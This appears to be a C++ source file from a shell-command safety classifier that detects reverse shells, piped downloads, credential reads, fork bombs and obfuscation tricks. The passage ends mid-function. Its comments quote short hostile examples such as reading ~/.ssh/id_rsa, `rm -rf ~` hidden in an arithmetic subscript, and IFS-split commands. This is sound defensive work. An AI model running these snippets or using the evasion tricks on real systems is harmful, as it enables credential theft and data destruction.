// The classifier: simple commands from the parser (shell_syntax.hpp) or an argv, with their
// words expanded and paths resolved through what the script knows (script_state.hpp), through
// the wrappers that run another command (env, timeout, xargs, find -exec, ...), into the shells
// and interpreters that run code (`sh -c`, a heredoc into a shell, awk's system(), python -c),
// against the rule table (rules.hpp). Each rule names an effect; the policy in force turns it
// into a decision (effects.hpp). A script's decision is the strictest of its parts.
#include "paddock/classifier.hpp"

#include <algorithm>
#include <cstdlib>
#include <map>
#include <optional>
#include <string_view>

#include "classifier/code_runners.hpp"
#include "classifier/effects.hpp"
#include "classifier/inline_code.hpp"
#include "classifier/launchers.hpp"
#include "classifier/program_kinds.hpp"
#include "classifier/rule_matchers.hpp"
#include "classifier/rules.hpp"
#include "classifier/script_state.hpp"
#include "classifier/shell_syntax.hpp"
#include "classifier/shell_words.hpp"
#include "classifier/wrappers.hpp"
#include "paddock/errors.hpp"

namespace paddock {
namespace {

using classifier::Args;
using classifier::Effect;
using classifier::Finding;
using classifier::Findings;
using classifier::ParsedScript;
using classifier::ScriptState;
using classifier::SimpleCommand;
using classifier::Word;
using classifier::wrapper_spec;
using classifier::WrapperSpec;
using namespace classifier;  // program_kinds.hpp's predicates

int rank(Decision d) { return static_cast<int>(d); }

std::string basename_of(std::string_view p) {
  const auto slash = p.rfind('/');
  return std::string(slash == std::string_view::npos ? p : p.substr(slash + 1));
}

Word literal_word(std::string text) { return {std::move(text), false, false, {}}; }

// Empty until a rule speaks; then only ever stricter (the first rule at a level names it).
struct Verdict {
  Decision decision = Decision::allow;
  std::string rule;
  std::string reason;
};

void raise(Verdict& v, Decision d, std::string rule, std::string reason) {
  if (v.rule.empty() || rank(d) > rank(v.decision)) v = {d, std::move(rule), std::move(reason)};
}

std::string join_words(const std::vector<Word>& words) {
  std::string out;
  for (const auto& w : words) {
    if (!out.empty()) out += ' ';
    out += w.text;
  }
  return out;
}

// The rules that answer "this could not be seen through": never lifted by an override.
constexpr std::string_view kBoundRules[] = {"unanalysable",   "analysis-bound",   "dynamic-command",
                                            "dynamic-script", "script-from-pipe", "path-hijack"};
// Rule names the classifier uses outside the table.
constexpr std::string_view kStructuralRules[] = {"fork-bomb",
                                                 "ifs-splitting",
                                                 "dev-tcp",
                                                 "system-redirect",
                                                 "pipe-to-shell",
                                                 "decoded-payload-to-shell",
                                                 "background",
                                                 "privilege",
                                                 "privilege-service",
                                                 "background-detach",
                                                 "assignment",
                                                 "redirect-only",
                                                 "wrapper-only",
                                                 "empty",
                                                 "default",
                                                 "denied-program",
                                                 "not-allowed-program",
                                                 "credential-read",
                                                 "writes-file",
                                                 "environment-injection",
                                                 "deferred-code",
                                                 "dynamic-device",
                                                 "inline-code",
                                                 "path-change",
                                                 "rebinds-command",
                                                 "script-file",
                                                 "loopback-connection",
                                                 "raw-connection",
                                                 "arithmetic-code",
                                                 "change-directory",
                                                 "reverse-shell"};

// A redirect that writes somewhere other than /dev/null or another descriptor (`2>&1`).
bool writes_to_file(const classifier::Redirect& r) {
  if (r.op.find('>') == std::string::npos) return false;
  const std::string& t = r.target.text;
  const bool descriptor =
      !t.empty() &&
      (t == "-" || std::all_of(t.begin(), t.end(), [](char ch) { return ch >= '0' && ch <= '9'; }));
  return !descriptor && t != "/dev/null";
}

bool writes_a_file(const SimpleCommand& c) {
  return std::any_of(c.redirects.begin(), c.redirects.end(), writes_to_file);
}

bool user_rule_matches(const CommandRule& r, const SimpleCommand& c, std::size_t start) {
  if (r.match.empty() || c.words.size() - start < r.match.size()) return false;
  for (std::size_t i = 0; i < r.match.size(); ++i) {
    const Word& w = c.words[start + i];
    if (r.match[i] == "*") continue;
    if (w.dynamic) return false;
    const std::string text = i == 0 ? basename_of(w.text) : w.text;
    if (text != (i == 0 ? basename_of(r.match[i]) : r.match[i])) return false;
  }
  return true;
}

// A word made by running commands (`$(curl URL)`, `<(wget -O- URL)`) whose commands fetch
// from the network: as a script, that is code nobody has read.
bool fetches_code(const Word& w) {
  if (!w.dynamic) return false;
  const ParsedScript inner = classifier::parse_script(w.text);
  return std::any_of(inner.commands.begin(), inner.commands.end(), [](const SimpleCommand& c) {
    return !c.words.empty() && !c.words[0].dynamic && is_downloader(basename_of(c.words[0].text));
  });
}

// A word that is only command substitutions and text (`"$(pyenv init -)"`): what eval runs
// is what those commands print, like running them.
bool only_substitutions(const Word& w) {
  return !w.pieces.empty() && std::all_of(w.pieces.begin(), w.pieces.end(), [](const auto& p) {
    return p.kind == classifier::Piece::Kind::literal ||
           (p.kind == classifier::Piece::Kind::opaque &&
            (p.text.starts_with("$(") || p.text.starts_with("`")));
  });
}

// The options of a program whose value is a command line it runs; kind 's' a shell command
// line, 'g' a gdb command, 'e' an editor's command.
std::vector<std::pair<std::string_view, char>> command_options(std::string_view name) {
  if (name == "tar" || name == "bsdtar" || name == "gtar")
    return {{"--to-command", 's'},           {"--checkpoint-action", 's'}, {"-I", 's'},
            {"--use-compress-program", 's'}, {"--rsh-command", 's'},       {"-F", 's'},
            {"--info-script", 's'},          {"--new-volume-script", 's'}};
  if (name == "sort") return {{"--compress-program", 's'}};
  if (name == "bat" || name == "batcat") return {{"--pager", 's'}};
  if (name == "man") return {{"-P", 's'}, {"--pager", 's'}, {"-H", 's'}, {"--html", 's'}};
  if (name == "zip") return {{"-TT", 's'}, {"--unzip-command", 's'}};
  if (name == "rsync") return {{"-e", 's'}, {"--rsh", 's'}};
  if (name == "gdb")
    return {{"-ex", 'g'},
            {"--ex", 'g'},
            {"-iex", 'g'},
            {"--eval-command", 'g'},
            {"--init-eval-command", 'g'}};
  if (name == "vim" || name == "vi" || name == "nvim" || name == "view" || name == "ex" ||
      name == "emacs" || name == "less" || name == "more")
    return {{"-c", 'e'}, {"--cmd", 'e'}, {"--eval", 'e'}, {"-eval", 'e'}};
  return {};
}

// A git setting whose value is a command git runs later.
bool git_command_key(const std::string& key, const std::string& value) {
  return key == "core.pager" || key == "core.editor" || key == "core.sshcommand" ||
         key == "core.fsmonitor" || key == "sequence.editor" || key == "diff.external" ||
         key == "gpg.program" || key == "gpg.ssh.program" || key == "gpg.x509.program" ||
         key == "core.askpass" || key == "web.browser" || key == "uploadpack.packobjectshook" ||
         key.starts_with("pager.") || key.ends_with(".textconv") || key.ends_with(".cmd") ||
         key.ends_with(".clean") || key.ends_with(".smudge") || key.ends_with(".process") ||
         key.ends_with(".command") || key.ends_with(".driver") || key.ends_with(".uploadpack") ||
         key.ends_with(".receivepack") || key.ends_with(".proxy") ||
         ((key.starts_with("alias.") || key == "credential.helper") && value.starts_with("!"));
}

// /dev/tcp/HOST/PORT and /dev/udp/...: HOST, or "" when the word is not one.
std::string dev_tcp_host(std::string_view t) {
  for (std::string_view dev : {"/dev/tcp/", "/dev/udp/"}) {
    const auto at = t.find(dev);
    if (at == std::string_view::npos) continue;
    const std::string_view rest = t.substr(at + dev.size());
    return std::string(rest.substr(0, rest.find('/')));
  }
  return "";
}

bool loopback(std::string_view host) {
  return host == "localhost" || host == "::1" || host.starts_with("127.") || host == "0.0.0.0" ||
         host == "0";
}

// The interpreter a script file would run under, from its #! line ("" for a shell).
std::string shebang_interpreter(const std::string& text) {
  if (!text.starts_with("#!")) return "";
  const std::string line = text.substr(0, text.find('\n'));
  for (std::string_view lang : {"python", "node", "perl", "ruby"}) {
    if (line.find(lang) != std::string::npos) return std::string(lang);
  }
  return "";
}

class Classifier {
 public:
  Classifier(const CommandRules& custom, const ClassifyContext& ctx)
      : custom_(custom),
        ctx_(ctx),
        home_(!ctx.home.empty()                ? ctx.home
              : std::getenv("HOME") != nullptr ? std::string(std::getenv("HOME"))
                                               : std::string()),
        root_(ctx.cwd, home_, ctx.env),
        state_(&root_) {}

  Classification run_script(const std::string& script) {
    Verdict v = call_environment();
    Verdict s = script_verdict(script, 0);
    raise(v, s.decision, s.rule, s.reason);
    return finish(v);
  }

  Classification run_argv(const std::vector<std::string>& argv) {
    SimpleCommand c;
    for (const auto& a : argv) c.words.push_back(literal_word(a));
    c.source = join_words(c.words);
    Verdict v = call_environment();
    Verdict s = command_verdict(c, 0);
    raise(v, s.decision, s.rule, s.reason);
    return finish(v);
  }

 private:
  Classification finish(const Verdict& v) {
    Classification out;
    out.decision = v.decision;
    out.rule = v.rule;
    out.reason = v.reason;
    for (const auto& p : parts_) {
      if (p.decision == v.decision && p.rule == v.rule) {
        out.decided_by = p.command;
        break;
      }
    }
    out.parts = std::move(parts_);
    return out;
  }

  // The call's own variables (ExecOptions::env) are part of what runs, as prefixes would be.
  Verdict call_environment() {
    Verdict v;
    for (const auto& [name, value] : ctx_.env) variable_effect(name, literal_word(value), 0, v);
    return v;
  }

  // A variable set for a command or the rest of the script: one holding a command line is that
  // command; one naming code to load (LD_PRELOAD, BASH_ENV, NODE_OPTIONS, ...) runs that code
  // inside the sandbox.
  void variable_effect(const std::string& name, const Word& value, int depth, Verdict& v) {
    if ((name == "BASH_ENV" || name == "ENV") && !value.dynamic) {
      // A shell reads this file first: one this command line wrote is judged as run.
      if (const auto* f = state_->written(value.text)) script_file_verdict(*f, "", depth, v);
    }
    if (holds_command_line(name)) {
      Verdict inner = inner_script(value, depth, "a variable's command line");
      raise(v, inner.decision, inner.rule, inner.reason);
    } else if (injects_code(name) && name != "PATH" && name != "IFS") {
      effect(v, Effect::contained, "environment-injection",
             "sets " + name + ", which makes programs load or run something else");
    }
  }

  // Every verdict goes through here: the effect under the policy in force, then an override
  // naming the rule.
  void effect(Verdict& v, Effect e, std::string rule, std::string reason) const {
    if (rule == "global-install" && ctx_.home_writable) e = Effect::uncontained;
    // The host's service managers listen on unix sockets: reachable, they act outside.
    if ((rule == "services" || rule == "privilege-service" || rule == "containers") &&
        ctx_.host_sockets)
      e = Effect::uncontained;
    const auto d = classifier::decide(e, ctx_);
    raise(v, d.decision, std::move(rule), std::move(reason) + d.why);
  }

  void raise(Verdict& v, Decision d, std::string rule, std::string reason) const {
    if (auto it = custom_.overrides.find(rule); it != custom_.overrides.end()) {
      d = custom_.stricter_only && rank(it->second) < rank(d) ? d : it->second;
    }
    ::paddock::raise(v, d, std::move(rule), std::move(reason));
  }

  void otherwise_default(Verdict& v) const {
    if (v.rule.empty()) effect(v, Effect::contained, "default", "no rule matched");
  }

  Verdict script_verdict(const std::string& script, int depth) {
    Verdict v;
    if (depth > kClassifierMaxDepth) {
      effect(v, Effect::opaque, "analysis-bound",
             "nested deeper than " + std::to_string(kClassifierMaxDepth) +
                 " shells or wrappers: not analysed");
      return v;
    }
    if (script.size() > kClassifierMaxScriptBytes) {
      effect(v, Effect::opaque, "analysis-bound",
             "script of " + std::to_string(script.size()) + " bytes, more than the " +
                 std::to_string(kClassifierMaxScriptBytes) + " analysed");
      return v;
    }
    ParsedScript parsed = classifier::parse_script(script);
    for (const auto& problem : parsed.problems) {
      effect(v, Effect::opaque, "unanalysable", "the script " + problem);
    }
    if (parsed.commands.size() > kClassifierMaxCommands) {
      effect(v, Effect::opaque, "analysis-bound",
             std::to_string(parsed.commands.size()) + " commands, more than the " +
                 std::to_string(kClassifierMaxCommands) + " analysed");
    }
    for (const auto& f : parsed.self_calling_functions) {
      effect(v, Effect::hostile, "fork-bomb",
             "function " + (f.empty() ? std::string("(unnamed)") : f) +
                 " calls itself: the shape of a fork bomb");
    }
    if (parsed.commands.empty() && parsed.problems.empty()) {
      effect(v, Effect::read_only, "empty",
             parsed.stops_at.empty() ? "nothing to run" : "nothing runs: " + parsed.stops_at);
    }
    // A nested script (sh -c) sees what its parent knew: exported variables, the directory,
    // the files written so far; what it learns stays its own.
    ScriptState local = *state_;
    local.learn_assignments(parsed.commands);
    ScriptState* outer = state_;
    state_ = &local;
    for (const auto& c : parsed.commands) {
      Verdict part = command_verdict(c, depth);
      raise(v, part.decision, part.rule, part.reason);
    }
    state_ = outer;
    if (depth == 0) *state_ = std::move(local);
    if (!parsed.stops_at.empty() && parts_.size() < kClassifierMaxCommands) {
      parts_.push_back({"(not run: " + parsed.stops_at + ")", Decision::allow, "syntax-error-stop",
                        parsed.stops_at});
    }
    otherwise_default(v);
    return v;
  }

  // The verdict for a script a command will run (`sh -c`, stdin of a shell): its own parts
  // are recorded too. A word known only at run time is expanded through the script's
  // variables first.
  Verdict inner_script(const Word& script, int depth, const char* how) {
    Verdict v;
    for (const auto& alt : state_->expand(script)) {
      Word w = alt.size() == 1 ? alt[0] : literal_word(join_words(alt));
      if (alt.size() != 1 &&
          std::any_of(alt.begin(), alt.end(), [](const Word& x) { return x.dynamic; }))
        w = script;
      if (w.dynamic) {
        if (fetches_code(w)) {
          effect(v, Effect::hostile, "pipe-to-shell",
                 std::string("a shell runs ") + how + " fetched from the network: " + w.text);
        } else {
          effect(v, Effect::opaque, "dynamic-script",
                 std::string("a shell runs ") + how + " known only at run time: " + w.text);
        }
        continue;
      }
      Verdict inner = script_verdict(w.text, depth + 1);
      raise(v, inner.decision, inner.rule, inner.reason);
    }
    return v;
  }

  // Text bash evaluates as arithmetic: a command substitution in it runs; a variable named in
  // it is evaluated as arithmetic too (`x='a[$(rm -rf ~)]'; echo $((x))`).
  void arithmetic_verdict(const std::string& text, int depth, Verdict& v, int level = 0) {
    if (level > 8) return;
    for (std::string_view inner : classifier::command_substitutions(text)) {
      Verdict found = script_verdict(std::string(inner), depth + 1);
      raise(v, found.decision, found.rule, found.reason);
    }
    // Identifiers: their values are arithmetic of their own.
    for (std::size_t i = 0; i < text.size();) {
      const char c = text[i];
      if (!(std::isalpha(static_cast<unsigned char>(c)) || c == '_')) {
        ++i;
        continue;
      }
      std::size_t j = i;
      while (j < text.size() &&
             (std::isalnum(static_cast<unsigned char>(text[j])) || text[j] == '_'))
        ++j;
      if (const auto* values = state_->values(text.substr(i, j - i))) {
        for (const auto& value : *values) {
          if (value) arithmetic_verdict(*value, depth, v, level + 1);
        }
      }
      i = j;
    }
  }

  Verdict command_verdict(const SimpleCommand& c, int depth) {
    Verdict v;
    for (const auto& a : c.arithmetic) arithmetic_verdict(a.text, depth, v);
    for (const auto& r : c.redirects) redirect_verdict(c, r, v);
    for (const auto& w : c.words) {
      // `cat$IFS/etc/passwd`: $IFS glued to other text splits one word into several at run
      // time, so what runs is not what is written. `echo "$IFS"` and `IFS= read` are fine.
      if (w.ifs && w.pieces.size() > 1) {
        effect(v, Effect::opaque, "ifs-splitting",
               "uses $IFS to split words at run time (hides the command from review)");
      }
    }
    if (c.background) {
      effect(
          v, Effect::contained, "background",
          "runs in the background (&): the sandbox's process namespace ends it with the command");
    }
    for (const auto& s : c.sets) {
      if (s.name == "BASH_CMDS" || s.name == "BASH_ALIASES") {
        effect(v, Effect::opaque, "rebinds-command",
               s.name + " makes a command name run another program");
      }
    }
    if (c.words.empty()) {
      for (const auto& s : c.sets) {
        if (s.name == "PATH") {
          effect(v, Effect::contained, "path-change", "changes where commands are found");
        } else if (!s.unknown) {
          variable_effect(s.name, s.value, depth, v);
        }
      }
      if (v.rule.empty() && c.sets.empty() && writes_a_file(c)) {
        effect(v, Effect::contained, "writes-file", "writes a file through a redirect");
      }
      if (v.rule.empty() && c.sets.empty()) {
        effect(v, Effect::read_only, "redirect-only", "no command: only redirections");
      }
      if (v.rule.empty()) effect(v, Effect::read_only, "assignment", "only sets variables");
      record(c, v);
      return v;
    }
    // Every value the words may have: `t=/dev/tcp/...; bash -i >& $t`, `cmd="rm -rf ~"; $cmd`.
    for (const auto& words : state_->expand_all(c.words)) {
      SimpleCommand e = c;
      e.words = words;
      Verdict inner = argv_verdict(e, 0, depth);
      raise(v, inner.decision, inner.rule, inner.reason);
    }
    if (v.decision == Decision::allow && writes_a_file(c)) {
      effect(v, Effect::contained, "writes-file", "writes a file through a redirect");
    }
    if (!c.words[0].dynamic && is_downloader(basename_of(c.words[0].text)) && writes_a_file(c)) {
      effect(v, Effect::contained, "download-to-file", "downloads into a file (a redirect)");
    }
    otherwise_default(v);
    record(c, v);
    after_command(c);
    return v;
  }

  void redirect_verdict(const SimpleCommand& c, const classifier::Redirect& r, Verdict& v) {
    const std::string program =
        c.words.empty() || c.words[0].dynamic ? "" : basename_of(c.words[0].text);
    for (const auto& alt : state_->expand(r.target)) {
      const Word t = alt.size() == 1 ? alt[0] : r.target;
      if (const std::string host = dev_tcp_host(t.text); !host.empty() || t.dynamic) {
        if (t.dynamic && t.text.find("/dev/") != std::string::npos) {
          effect(v, Effect::opaque, "dynamic-device",
                 "a redirect to a device named at run time: " + t.text);
        } else if (!host.empty() && loopback(host)) {
          effect(v, Effect::contained, "loopback-connection",
                 "connects to the sandbox's own loopback through bash's /dev/tcp");
        } else if (!host.empty() && (program.empty() || program == "exec" || is_shell(program))) {
          effect(v, Effect::hostile, "reverse-shell",
                 "hands a shell to a network connection through bash's /dev/tcp (" + host + ")");
        } else if (!host.empty()) {
          effect(v, Effect::remote, "raw-connection",
                 "opens a connection to " + host + " through bash's /dev/tcp");
        }
      }
      // Read through a redirection (`cat < ~/.ssh/id_rsa`, `exec 3< f`, `$(< f)`).
      if (r.op.starts_with("<") && !r.op.starts_with("<<") && !r.op.starts_with("<&")) {
        credential_effect(t.text, "reads", v);
      }
      if (r.op.find('>') == std::string::npos || t.dynamic) continue;
      if (const char* why = classifier::forbidden_redirect_target(t.text, &state_->paths())) {
        effect(v, Effect::hostile, "system-redirect",
               std::string(why) + " (redirect to " + t.text + ")");
      }
    }
  }

  // A word or a redirection's file naming a credential, as the kernel would reach it from
  // every directory the script may be in (resolve_path: `~`, `~user`, `//`, `/proc/self/root`,
  // `..`, after `cd`), also as an option's value (`--file=`, dd's `if=`, curl's `@`). The
  // sandbox hides it, so a read fails there; re-exposed by allowRead, or with no sandbox, the
  // credential is read.
  void credential_effect(const std::string& text, const char* verb, Verdict& v) {
    std::string path = text;
    if (const auto eq = path.find('='); eq != std::string::npos) {
      const bool option = path.starts_with("-");
      const bool operand = eq > 0 && std::all_of(path.begin(), path.begin() + eq, [](char ch) {
                             return std::isalnum(static_cast<unsigned char>(ch)) || ch == '_';
                           });
      if (option || operand) path.erase(0, eq + 1);
    }
    if (path.starts_with("@")) path.erase(0, 1);
    if (path.empty() || (path[0] == '-' && text.find('=') == std::string::npos)) return;
    std::vector<std::string> named = classifier::resolve_path(path, state_->paths());
    named.push_back(text);  // as written, for the spellings names_credential reads itself
    for (const std::string& n : named) {
      if (!names_credential(n, home_)) continue;
      const bool exposed =
          !ctx_.sandboxed || allow_read_reaches(n, ctx_.allow_read, ctx_.cwd, home_);
      effect(
          v, exposed ? Effect::uncontained : Effect::contained, "credential-read",
          std::string(verb) + " a credential" + (exposed ? ": " : " the sandbox hides: ") + text);
      return;
    }
  }

  void record(const SimpleCommand& c, const Verdict& v) {
    if (parts_.size() >= kClassifierMaxCommands) return;
    parts_.push_back(
        {c.source.empty() ? join_words(c.words) : c.source, v.decision, v.rule, v.reason});
  }

  // printf FORMAT ARGS: %s %b %d %i %c %% with the format reused while arguments remain.
  static std::optional<std::string> printf_output(const std::string& format,
                                                  const std::vector<std::string>& args) {
    std::string out;
    std::size_t next = 0;
    for (int round = 0; round < 64; ++round) {
      bool consumed = false;
      for (std::size_t i = 0; i < format.size(); ++i) {
        if (format[i] != '%') {
          out += format[i];
          continue;
        }
        if (i + 1 >= format.size()) return std::nullopt;
        const char conv = format[++i];
        if (conv == '%') {
          out += '%';
          continue;
        }
        const std::string arg = next < args.size() ? args[next] : "";
        consumed |= next < args.size();
        ++next;
        if (conv == 's' || conv == 'd' || conv == 'i' || conv == 'u') {
          out += arg;
        } else if (conv == 'b') {
          auto expanded = classifier::decode_escapes(arg, classifier::Escapes::echo);
          if (!expanded) return std::nullopt;
          out += *expanded;
        } else if (conv == 'c') {
          out += arg.substr(0, 1);
        } else {
          return std::nullopt;  // widths, precisions, %q, %x: not modelled
        }
      }
      if (!consumed || next >= args.size()) break;
    }
    return classifier::decode_escapes(out, classifier::Escapes::printf);
  }

  // What `echo`/`printf` print, when it is written out in full.
  static std::optional<std::string> printed(const SimpleCommand& c) {
    if (c.words.empty() || c.words[0].dynamic) return std::nullopt;
    const std::string p = basename_of(c.words[0].text);
    if (p != "echo" && p != "printf") return std::nullopt;
    std::string out;
    std::size_t i = 1;
    for (std::size_t k = 1; k < c.words.size(); ++k) {
      if (c.words[k].dynamic) return std::nullopt;
    }
    if (p == "printf") {
      const std::size_t f = c.words.size() > 1 && c.words[1].text == "--" ? 2 : 1;
      if (c.words.size() <= f || c.words[f].text == "-v") return std::nullopt;
      std::vector<std::string> args;
      for (std::size_t k = f + 1; k < c.words.size(); ++k) args.push_back(c.words[k].text);
      return printf_output(c.words[f].text, args);
    }
    bool escapes = false;
    while (i < c.words.size() && c.words[i].text.size() > 1 && c.words[i].text[0] == '-' &&
           c.words[i].text.find_first_not_of("neE", 1) == std::string::npos) {
      escapes |= c.words[i].text.find('e') != std::string::npos;
      ++i;
    }
    for (; i < c.words.size(); ++i) out += (out.empty() ? "" : " ") + c.words[i].text;
    if (!escapes) return out;
    return classifier::decode_escapes(out, classifier::Escapes::echo);
  }

  // What the script now knows: where it is (cd), which files it wrote and with what.
  void after_command(const SimpleCommand& c) {
    if (c.words.empty() || c.words[0].dynamic) return;
    const std::string name = basename_of(c.words[0].text);
    if (name == "cd" || name == "pushd") {
      state_->change_directory({c.words.begin() + 1, c.words.end()});
    } else if (name == "popd") {
      state_->change_directory({literal_word("-")});
    }
    const auto text_of_stdin = [&c]() -> std::optional<std::string> {
      if (c.stdin_texts.size() == 1 && !c.stdin_texts[0].dynamic) return c.stdin_texts[0].text;
      return std::nullopt;
    };
    classifier::WrittenFile content;
    if (auto p = printed(c)) {
      const bool newline = basename_of(c.words[0].text) == "echo";
      content.text = *p + (newline ? "\n" : "");
    } else if (name == "cat" && c.words.size() == 1) {
      content.text = text_of_stdin();
    }
    content.fetched = is_downloader(name);
    for (const auto& r : c.redirects) {
      if (!writes_to_file(r) || r.target.dynamic) continue;
      classifier::WrittenFile f = content;
      if (r.op.find(">>") != std::string::npos && state_->written(r.target.text) != nullptr)
        f.text.reset();  // appended to: the whole is no longer what this command printed
      state_->wrote(r.target.text, f);
    }
    const auto& w = c.words;
    for (std::size_t i = 1; i < w.size(); ++i) {
      if (w[i].dynamic) continue;
      const std::string& t = w[i].text;
      if (name == "tee" && !t.starts_with("-")) state_->wrote(t, {text_of_stdin(), false});
      for (std::string_view glued : {"--output=", "--output-document="}) {
        const bool ours = (name == "curl" && glued == "--output=") ||
                          (name == "wget" && glued == "--output-document=");
        if (ours && t.size() > glued.size() && t.starts_with(glued))
          state_->wrote(t.substr(glued.size()), {std::nullopt, true});
      }
      bool out_flag =
          ((name == "curl" && t == "--output") || (name == "wget" && t == "--output-document"));
      bool remote_name = name == "curl" && t == "--remote-name";
      if ((name == "curl" || name == "wget") && t.size() > 1 && t[0] == '-' && t[1] != '-') {
        // A cluster of short options (-sSLo FILE, -qOFILE, -sLO): the first that takes a
        // value takes the rest of the word, or the next word.
        const std::string_view valued =
            name == "curl" ? "oKxdFHuXTAbcemwEYyzCPQtrD" : "OoaeiUtTwPQlARDXIB";
        for (std::size_t k = 1; k < t.size(); ++k) {
          if (name == "curl" && t[k] == 'O') remote_name = true;
          if (valued.find(t[k]) == std::string_view::npos) continue;
          const char output = name == "curl" ? 'o' : 'O';
          if (t[k] == output && k + 1 < t.size()) {
            state_->wrote(t.substr(k + 1), {std::nullopt, true});
          } else if (t[k] == output) {
            out_flag = true;
          }
          break;
        }
      }
      if (out_flag && i + 1 < w.size() && !w[i + 1].dynamic && w[i + 1].text != "-")
        state_->wrote(w[i + 1].text, {std::nullopt, true});
      if (remote_name) {
        for (const auto& u : w) {
          if (u.text.find("://") != std::string::npos)
            state_->wrote(u.text.substr(u.text.rfind('/') + 1), {std::nullopt, true});
        }
      }
    }
    if (name == "wget") {
      for (const auto& u : w) {
        if (!u.dynamic && u.text.find("://") != std::string::npos)
          state_->wrote(u.text.substr(u.text.rfind('/') + 1), {std::nullopt, true});
      }
    }
    if ((name == "cp" || name == "mv" || name == "install") && w.size() >= 3 &&
        !w[w.size() - 1].dynamic && !w[w.size() - 2].dynamic) {
      if (const auto* f = state_->written(w[w.size() - 2].text))
        state_->wrote(w[w.size() - 1].text, *f);
    }
  }

  // /dev/fd/N, /proc/<self|thread-self|pid>/fd/N, /dev/stdin, in any spelling (`/dev/./fd`).
  static bool descriptor_path(const std::string& t) {
    std::string n;
    for (std::size_t i = 0; i < t.size(); ++i) {  // `//` and `/./` as one `/`
      if (t[i] == '/' && !n.empty() && n.back() == '/') continue;
      if (t[i] == '.' && !n.empty() && n.back() == '/' && (i + 1 == t.size() || t[i + 1] == '/')) {
        ++i;
        continue;
      }
      n += t[i];
    }
    return n.starts_with("/dev/stdin") || n.starts_with("/dev/fd/") ||
           (n.starts_with("/proc/") && n.find("/fd/") != std::string::npos);
  }

  // A script read through a process substitution or a descriptor: `source <(echo ...)`,
  // `bash <(printf ...)`, `. /dev/fd/3`, `exec 3<<<'...'; bash <&3`. What a substitution
  // prints is known when it is one echo or printf; anything else is not analysable.
  void descriptor_program(const SimpleCommand& c, std::size_t start, const std::string& name,
                          int depth, Verdict& v) {
    const auto& w = c.words;
    bool operand = false;
    for (std::size_t i = start + 1; i < w.size(); ++i) {
      const std::string& t = w[i].text;
      if (!w[i].dynamic && t.starts_with("-") && !operand) {
        if (is_shell(name) && t.find('c') != std::string::npos && !t.starts_with("--")) return;
        if (is_interpreter(name)) return;  // options may take values: interpreter_verdict
        continue;                          // (a shell's -c script is judged by shell_verdict)
      }
      const bool first = !operand;
      operand = true;
      if (!first) break;  // the script is the first operand; the rest are its arguments
      if (t.starts_with("<(") && t.ends_with(")")) {
        const ParsedScript inner = classifier::parse_script(t.substr(2, t.size() - 3));
        std::optional<std::string> text;
        if (inner.problems.empty() && inner.commands.size() == 1) text = printed(inner.commands[0]);
        if (text && is_interpreter(name)) {
          apply(read_code(name.starts_with("python") ? "python" : name, *text), name, depth, v);
        } else if (text) {
          Verdict found = script_verdict(*text, depth + 1);
          raise(v, found.decision, found.rule, found.reason);
        }
        // Otherwise like `eval "$(tool)"`: judged by the commands inside, already walked.
      } else if (!w[i].dynamic && descriptor_path(t)) {
        const bool stdin_path = t == "/dev/stdin" || t == "/dev/fd/0" || t == "/proc/self/fd/0";
        const bool redirected =
            std::any_of(c.redirects.begin(), c.redirects.end(), [](const auto& r) {
              return r.op.find('<') != std::string::npos && r.op.find('&') != std::string::npos;
            });
        if (!stdin_path || redirected)
          effect(v, Effect::opaque, "dynamic-script", name + " runs what a descriptor holds: " + t);
      }
    }
    // A shell reading its program from stdin, with stdin taken from another descriptor.
    if (is_shell(name) && !operand) {
      for (const auto& r : c.redirects) {
        const std::string& t = r.target.text;
        const bool descriptor = r.op.find('<') != std::string::npos &&
                                (r.op.find('&') != std::string::npos || t.starts_with("/dev/fd/") ||
                                 t.starts_with("/proc/self/fd/"));
        if (descriptor && t != "0" && t != "-")
          effect(v, Effect::opaque, "dynamic-script",
                 name + " reads its program from another descriptor: " + r.op + t);
      }
    }
  }

  // A file the command line wrote itself, now run by a shell, an interpreter or by its name.
  void script_file_verdict(const classifier::WrittenFile& f, std::string lang, int depth,
                           Verdict& v) {
    if (f.fetched) {
      effect(v, Effect::hostile, "pipe-to-shell",
             "runs a file it downloaded: code fetched from the network that nobody has read");
      return;
    }
    if (!f.text) {
      effect(v, Effect::opaque, "script-file",
             "runs a file this command line wrote, whose text is known only at run time");
      return;
    }
    if (lang.empty() || lang == "shebang") {
      lang = lang.empty() ? "" : shebang_interpreter(*f.text);
    }
    if (lang.empty()) {
      Verdict inner = script_verdict(*f.text, depth + 1);
      raise(v, inner.decision, inner.rule, inner.reason);
    } else {
      apply(read_code(lang, *f.text), lang, depth, v);
    }
  }

  static Findings read_code(const std::string& lang, const std::string& code) {
    if (lang.starts_with("python")) return classifier::python_code(code);
    if (lang == "node" || lang == "nodejs" || lang == "deno" || lang == "bun" ||
        lang == "javascript")
      return classifier::javascript_code(code);
    if (lang == "perl" || lang == "ruby") return classifier::perl_or_ruby(code);
    return classifier::other_language(code);
  }

  // What code given to a program would run or write, judged like any command.
  void apply(const Findings& findings, const std::string& who, int depth, Verdict& v) {
    for (const auto& f : findings) {
      switch (f.kind) {
        case Finding::Kind::script: {
          Verdict inner = script_verdict(f.text, depth + 1);
          raise(v, inner.decision, inner.rule, inner.reason);
          break;
        }
        case Finding::Kind::argv: {
          Verdict inner = words_verdict(f.argv, depth);
          raise(v, inner.decision, inner.rule, inner.reason);
          break;
        }
        case Finding::Kind::opaque:
          effect(v, Effect::opaque, "inline-code", who + " code: " + f.text);
          break;
        case Finding::Kind::fork_bomb:
          effect(v, Effect::hostile, "fork-bomb", who + " code: " + f.text);
          break;
        case Finding::Kind::reverse_shell:
          effect(v, Effect::hostile, "reverse-shell", who + " code: " + f.text);
          break;
        case Finding::Kind::removes: {
          Verdict inner = words_verdict({"rm", "-rf", f.text}, depth);
          raise(v, inner.decision, inner.rule, inner.reason);
          break;
        }
        case Finding::Kind::remote:
          effect(v, Effect::remote, "upload", who + " code: " + f.text);
          break;
        case Finding::Kind::writes:
          if (const char* why = classifier::forbidden_redirect_target(f.text, &state_->paths()))
            effect(v, Effect::hostile, "system-write", who + ": " + why + " (" + f.text + ")");
          break;
      }
    }
  }

  // Builtins that keep code for later (trap, alias, mapfile -C), and the bash array-subscript
  // evaluation in single quotes (`test -v 'a[$(cmd)]'`), which runs when the builtin does.
  void deferred_code(const SimpleCommand& c, std::size_t start, const std::string& name, int depth,
                     Verdict& v) {
    const auto& w = c.words;
    for (std::size_t i = start + 1; i < w.size(); ++i) {
      const std::string& t = w[i].text;
      if (t.find("[$(") != std::string::npos || t.find("[`") != std::string::npos) {
        arithmetic_verdict(t, depth, v);
      }
